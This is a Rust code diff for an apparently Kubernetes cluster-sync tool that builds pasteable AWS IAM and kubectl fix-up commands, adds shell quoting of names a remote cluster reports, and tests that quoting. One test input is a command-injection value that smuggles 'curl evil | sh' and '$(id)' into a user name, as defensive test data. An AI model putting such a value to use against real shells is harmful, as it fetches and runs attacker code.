@@ -20,7 +20,8 @@ pub(super) fn aws(error: &EksError, cluster: &RemoteCluster) -> Option<String> {
         EksError::DescribeDenied { .. } => {
             let statement = json!({ "Effect": "Allow", "Action": "eks:DescribeCluster", "Resource": arn.to_string() });
             let policy = json!({ "Version": "2012-10-17", "Statement": [statement] });
-            let to = format!("--role-name {} --policy-name mw-sync", base(&role?));
+            // One of its own: what other policies of the role allow stays allowed.
+            let to = format!("--role-name {} --policy-name mw-sync-describe-{}", base(&role?), arn.name());
             format!("aws iam put-role-policy {to} --policy-document '{policy}'")
         }
         EksError::ClusterNotFound { .. } => format!("aws eks list-clusters --region {}", arn.region()),
@@ -34,21 +35,28 @@ pub(super) fn aws(error: &EksError, cluster: &RemoteCluster) -> Option<String> {
     Some(format!("in account {}: {command}", arn.account()))
 }
 
-/// Binds whom we come as to the Role that we need there, in that cluster.
+/// Binds whom we come as to the Role that we need there. `user` is what the remote cluster calls us.
 pub(super) fn rights(cluster: &RemoteCluster, user: Option<&str>, destination: &str) -> String {
-    let place =
-        if destination == "operator" { String::new() } else { format!(", with {destination} for operator in both") };
+    let place = if destination == "operator" { "" } else { &format!(", with {destination} for operator in both") };
     let role = format!(
-        "if there is no such Role in the cluster: kubectl apply -f deploy/namespace.yaml -f deploy/remote-access.yaml{place}"
+        "if it has no such Role: kubectl apply -f deploy/namespace.yaml -f deploy/remote-access.yaml there{place}"
     );
-    let bind = match (named(cluster), user) {
-        (Some((arn, Some(role))), _) => format!("{}; in account {}", entry("update", &arn, &role), arn.account()),
-        (_, Some(user)) if user.starts_with("arn:") => {
-            format!("give {user} an access entry with Kubernetes group {GROUP}")
+    let caller = user.and_then(RoleArn::of_caller);
+    let bind = match named(cluster).map(|(arn, role)| (arn, role.or_else(|| caller.clone()))) {
+        Some((arn, Some(role))) => format!(
+            "in account {}: {}; that sets all groups of the entry, and where ConfigMap aws-auth maps the role it is there \
+             that the group {GROUP} is missing",
+            arn.account(),
+            entry("update", &arn, &role)
+        ),
+        _ if caller.is_some() => {
+            let role = caller.map_or_else(String::new, |role| role.to_string());
+            format!("give the access entry of {role} the Kubernetes group {GROUP}")
         }
-        (_, user) => {
-            let user = user.unwrap_or("USER");
-            format!("kubectl -n {destination} create rolebinding {GROUP}-user --role=mw-sync-remote --user={user}")
+        _ => {
+            let user = user.and_then(quoted).unwrap_or_else(|| "USER".to_owned());
+            let bind = format!("create rolebinding {GROUP}-user --role=mw-sync-remote --user={user}");
+            format!("in that cluster: kubectl -n {destination} {bind}")
         }
     };
     format!("{bind}; {role}")
@@ -69,4 +77,34 @@ fn entry(verb: &str, arn: &ClusterArn, role: &RoleArn) -> String {
 fn base(role: &RoleArn) -> String {
     let role = role.without_path().to_string();
     role.rsplit('/').next().unwrap_or_default().to_owned()
+}
+
+/// What a remote cluster has said, as one word of a shell: it is pasted. `None` if it was cut on its way here.
+fn quoted(said: &str) -> Option<String> {
+    (!said.ends_with('…')).then(|| format!("'{}'", said.replace('\'', r"'\''")))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_a_cluster_says_stays_one_word_of_the_shell() {
+        let cluster = serde_json::from_value(json!({
+            "apiVersion": "mw-sync.io/v1alpha1", "kind": "RemoteCluster", "metadata": { "name": "a" },
+            "spec": { "kubeconfig": { "secretName": "a" } },
+        }));
+        let cluster: RemoteCluster = cluster.unwrap();
+        for (user, word) in [
+            (Some("system:serviceaccount:a:b"), "--user='system:serviceaccount:a:b';"),
+            (Some("x'; curl evil | sh; echo '$(id)"), r"--user='x'\''; curl evil | sh; echo '\''$(id)';"),
+            (Some("cut…"), "--user=USER;"),
+            (None, "--user=USER;"),
+        ] {
+            let told = rights(&cluster, user, "operator");
+            assert!(told.starts_with("in that cluster: kubectl -n operator ") && told.contains(word), "{told}");
+        }
+        let told = rights(&cluster, Some("arn:aws:sts::111122223333:assumed-role/mw-sync/session"), "operator");
+        assert!(told.starts_with("give the access entry of arn:aws:iam::111122223333:role/mw-sync the"), "{told}");
+    }
 }
